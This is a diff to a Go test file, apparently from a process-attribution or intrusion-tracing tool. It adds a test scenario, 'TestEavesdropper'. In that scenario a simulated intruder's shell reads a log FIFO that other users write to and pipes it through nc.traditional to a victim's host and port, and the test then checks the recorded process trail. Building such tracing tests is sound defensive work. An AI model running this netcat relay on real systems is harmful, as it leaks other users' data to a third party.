@@ -67,6 +67,17 @@ func TestFIFORelay(t *testing.T) {
 	})
 }
 
+// The intruder sends the victim what other users write to a service, and is the only one to be named for it.
+func TestEavesdropper(t *testing.T) {
+	scenario(t, "SV_REC", func(s *stage) trail {
+		session := s.shell()
+		s.send(session, fmt.Sprintf("(echo %s; exec cat <%s) | nc.traditional %s %d", s.word, logFIFO, s.c.Host.Addr(), victimPort))
+		tr := s.through("cat", "nc.traditional", "bash", "sshd", "sshd")
+		tr.beside = true // the writers and their service
+		return tr
+	})
+}
+
 // Whoever made the connections has given them to an unrelated process, and ended.
 func TestDescriptorPassing(t *testing.T) {
 	scenario(t, "SV_REC", func(s *stage) trail {
